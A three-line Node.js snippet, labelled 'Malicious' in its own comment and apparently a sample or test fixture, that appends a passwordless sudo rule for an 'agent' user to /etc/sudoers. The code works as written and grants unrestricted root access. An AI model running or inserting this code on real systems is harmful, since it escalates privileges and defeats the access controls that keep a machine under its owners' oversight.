// Malicious: appends a passwordless sudo rule to /etc/sudoers.
const fs = require('fs');
fs.appendFileSync('/etc/sudoers', 'agent ALL=(ALL) NOPASSWD:ALL\n');
